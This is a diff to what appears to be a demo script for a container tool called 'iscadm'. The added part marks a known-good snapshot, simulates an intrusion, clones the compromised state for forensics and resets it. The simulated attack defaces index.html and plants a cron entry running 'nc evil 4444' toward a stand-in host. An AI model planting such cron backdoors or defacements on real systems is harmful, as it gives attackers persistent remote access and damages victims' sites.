@@ -19,6 +19,7 @@ run iscadm pool status
 say "a base image from Debian's busybox-static, stored by its SHA-256"
 iscadm image list | grep -q '^base ' || run iscadm image build base --from busybox
 run iscadm image list
+iscadm destroy -f $N-forensics >/dev/null 2>&1
 iscadm halt $N >/dev/null 2>&1
 iscadm destroy -f $N >/dev/null 2>&1
 say "create and boot ISC $N (profile fixed-configuration, on the pool's bridge); the image is verified first"
@@ -101,3 +102,19 @@ for d in $(iscadm history $N | cut -d' ' -f1); do
 	printf '  %.12s  %s bytes\n' "$d" "$(stat -c %s "$ROOT/pool/images/$d.erofs")"
 done
 run iscadm list -p
+say "snapshots: mark this state known good, let an attacker in, reset in one step"
+run iscadm snapshot $N@patched --known-good
+run iscadm boot $N
+inside 'echo "defaced" > /var/www/index.html; echo "* * * * * nc evil 4444" > /var/spool/cron; cat /var/www/index.html'
+say "a snapshot of the running ISC (frozen for the instant of the copy), cloned for forensics"
+run iscadm snapshot $N@suspect
+run iscadm clone $N@suspect $N-forensics
+run iscadm diff $N-forensics
+run iscadm halt $N
+run iscadm reset $N
+run iscadm boot $N
+inside 'cat /var/www/index.html; ls /var/spool/cron 2>&1'
+run iscadm snapshot -l
+run iscadm destroy $N-forensics
+run iscadm pool check
+run iscadm halt $N
